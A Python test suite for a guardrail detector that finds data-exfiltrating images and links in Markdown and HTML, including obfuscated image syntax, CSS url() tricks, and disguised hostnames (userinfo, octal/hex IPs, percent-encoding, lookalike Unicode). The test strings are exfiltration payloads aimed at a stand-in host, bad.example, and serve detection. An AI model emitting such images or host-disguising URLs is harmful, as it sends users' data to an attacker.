"""Images that carry data out are images however Markdown and HTML let them be written, cut into pieces or not."""

import time
from typing import Any

import pytest

from tidegate.engine.errors import ConfigError
from tidegate.engine.yamlfile import Located
from tidegate.guardrails.detectors.base import Context, find_from
from tidegate.guardrails.detectors.url.detector import host_of
from tidegate.guardrails.rules.compile import detector

U = "https://bad.example/p?d=" + "QWxsIHRoZSBzZWNyZXRz" * 3
IMAGES = {"url": {"images": True, "data": 24}}


def made(config: Any) -> Any:
    return detector(config, Context(Located(None, "rules.yaml"), (), "URL"))


def found(config: Any, text: str) -> list[str]:
    return [text[f.start : f.end] for f in made(config).find(text)]


def streamed(url: Any, text: str) -> list[str]:
    """What is found where the text comes character by character, as a stream settles it."""
    out: list[str] = []
    settled = 0
    for end in range(1, len(text) + 1):
        safe = max(settled, end if end == len(text) else url.open_from(text[:end]))
        hits = find_from(url, text[:end], settled)
        while cut := [f.start for f in hits if f.start < safe < f.end]:
            safe = min(cut)
        out += [text[f.start : f.end] for f in hits if f.end <= safe]
        settled = max(settled, safe)
    return out


@pytest.mark.parametrize(
    "text",
    [
        "![a\nb](U)", "![a [b] c](U)", "![a \\] c](U)", f"![{'a' * 600}](U)", "![a](    U)", "![a](\n\tU 'title')",
        "![a](https://bad.example/(x)/p?d=" + "a" * 30 + ")", "[![a](U)](https://good.example)", "![a](<U>)",
        "<img src  =  \"U\">", '<img alt=">" src="U">', f'<img alt="{"a" * 900}" src="U">', "<img '=\" src=U>",
        '<img srcset="/a.png 1x, U 2x">', '<p style="background:url(U)">', "<b style='background: &#117;rl( \"U\" )'>",
        "<svg><image xlink:href='U'/></svg>",
    ],
)  # fmt: skip
def test_every_way_to_write_an_image_is_one(text: str) -> None:
    text = f"see {text.replace('U', U)} there"
    [image] = found(IMAGES, text)
    assert "p?d=" in image
    assert streamed(made(IMAGES), text) == [image]


@pytest.mark.parametrize(
    "text",
    [
        "![a][r]\n\n[r]: U", "![r][]\n\n[r]: U", "![r]\n\n[R]: U", "![a][r s]\n\n[r\ns]:     U",
        "![a][r]\n\n[r]:\n    U 'x'",
        "![a][r]\n\n> [r]: U", "![a][r]\n\n> [r]:\n> <U>", "![a\nb [c]][r]\n\n[r]: U", "![a][r]\n\n- [r]: U",
    ],
)  # fmt: skip
def test_a_definition_that_an_image_refers_to_is_its_target(text: str) -> None:
    text = text.replace("U", U)
    assert [U in each for each in found(IMAGES, text)] == [True]
    assert streamed(made(IMAGES), text) == found(IMAGES, text)


@pytest.mark.parametrize(
    "text",
    [
        "<p style='url(x <i style=background:url(U)>", '<img src="x <img src=U>', "![r]\n\n[x]:\n[r]: U",
        "![r]\n\n> [x]:\n>[r]: U", "<p style='background:url(/a.png),url(U)'>",
    ],
)  # fmt: skip
def test_no_value_hides_the_target_that_stands_behind_its_beginning(text: str) -> None:
    assert [U in each for each in found(IMAGES, text.replace("U", U))] == [True]


def test_links_and_definitions_of_links_are_no_images() -> None:
    for text in ("[a](U)", "[a [b] c](U)", "[a][r]\n\n[r]: U", "[r]\n\n[r]: U\n\n![q]", "a[0](U)", "![x] [a](U)"):
        assert found(IMAGES, text.replace("U", U)) == [], text
    assert found(IMAGES, f"<a title='style of url(x)' href='{U}'>") == []


def test_behind_a_label_too_long_to_be_held_an_image_is_assumed() -> None:
    text = f"![{'a ' * 700}]({U})"
    assert found(IMAGES, text) == streamed(made(IMAGES), text) == [f"]({U})"]


HOSTS = [
    ("https://good.example/a?b", "good.example"),
    ("https://good.example@bad.example/", "bad.example"),
    ("https:\\\\bad.example\\x", "bad.example"),
    ("//Bad.Example./x", "bad.example"),
    ("www.bad.example/x", "www.bad.example"),
    ("https://bücher.example", "xn--bcher-kva.example"),
    ("https://[::1]:80/", "::1"),
    ("https://[bad", ""),
    ("https://[::1", "::1"),
    ("https://a[@bad.example/", "bad.example"),
    ("https://[a]@b@bad.example:x/", "bad.example"),
    ("https://\u2100@bad.example/", "bad.example"),
    ("http://0x7f.1/", "127.0.0.1"),
    ("http://0177.0.0x1/", "127.0.0.1"),
    ("http://017700000001./", "127.0.0.1"),
    ("//2130706433/", "127.0.0.1"),
    ("http://0/", "0.0.0.0"),
    ("http://1.2.3.4.5/", "1.2.3.4.5"),
    ("http://1.256.0.1/", "1.256.0.1"),
    ("http://08.1/", "08.1"),
    ("//2.", "2"),
    ("http:/bad.example/x", "bad.example"),
]


@pytest.mark.parametrize(("url", "host"), HOSTS)
def test_a_host_is_read_as_a_browser_reads_it(url: str, host: str) -> None:
    assert host_of(url) == host


@pytest.mark.parametrize(
    "link",
    [
        "https://good.example}@bad.example/?d=1",
        "https://good.example|@bad.example/?d=1",
        "https://good.example'@bad.example/?d=1",
        "https://good.example\\@bad.example/?d=1",
        "https\\://bad.example/?d=1",
        "https&colon;//bad.example/?d=1",
        "https:&sol;&#47;bad.example/?d=1",
        "http:/bad.example/?d=1",
    ],
)
def test_no_way_to_write_a_link_hides_its_host(link: str) -> None:
    assert found({"url": ["good.example"]}, f"![x]({link})") == [f"![x]({link})"]
    assert found({"url": {"deny": ["bad.example"]}}, f"see {link} there") == [link]


@pytest.mark.parametrize(
    "url",
    [
        "https://bad%2Eexample/", "https://%62ad.example/", "https://b%e2%80%8bad.example", "https://ba\u2064d.example/",
        "https://\U0001f131ad.example/", "https://\U0001d41bad.example/", "https://bad\u3002example/",
    ],
)  # fmt: skip
def test_a_host_is_the_one_that_its_letters_stand_for(url: str) -> None:
    assert host_of(url) == "bad.example"
    assert found({"url": {"deny": ["bad.example"]}}, f"see {url} there") == [url]


@pytest.mark.parametrize(
    "part",
    [
        "<img ", "![", "[a](", "![a](", "](", "]: ", "[a]: ", "<img a='", 'style="', "style= ", "<img a=b ",
        "<a", "<a \"", "style=url(//a.b)", "style=url( ", "style=", "[a]:", "[a]:>", "[a]://b", "[a]:&#x2f;&#x2f;b",
        "<img src=//a,src=",
    ],
)  # fmt: skip
def test_no_signs_of_targets_take_time_to_speak_of(part: str) -> None:
    url, text = made(IMAGES), part * (100_000 // len(part))
    began = time.perf_counter()
    url.find(f"{text} {U}")
    made({"url": {"deny": ["x.example"]}}).find(text)
    url.open_from(text)
    assert time.perf_counter() - began < 2


@pytest.mark.parametrize("written", ["bücher.example", "*.Bücher.example", "xn--bcher-kva.example"])
def test_a_host_of_the_configuration_is_read_as_one_in_a_text(written: str) -> None:
    sub = "a." * written.startswith("*")
    for host in (f"{sub}bücher.example", f"{sub}XN--BCHER-KVA.example"):
        assert found({"url": {"deny": [written]}}, f"see https://{host}/x")
        assert not found({"url": [written]}, f"see https://{host}/x")
    assert found({"url": {"deny": ["0x7f.1"]}}, "see http://127.0.0.1/")


def test_a_name_beside_addresses_would_never_be_found_and_is_refused() -> None:
    for key in ("allow", "deny"):
        with pytest.raises(ConfigError, match="this is no bare address"):
            made({"url": {key: ["evil.example"], "addresses": True}})
    assert found({"url": {"deny": ["203.0.113.9"], "addresses": True}}, "see http://203.0.113.9/")


def test_more_data_than_is_read_of_a_link_cannot_be_asked_for() -> None:
    long = f"https://a.example/?q={'x1y' * 2000}"
    assert found({"url": {"data": 4000}}, long)
    with pytest.raises(ConfigError, match="less than or equal to 4000"):
        made({"url": {"data": 4001}})
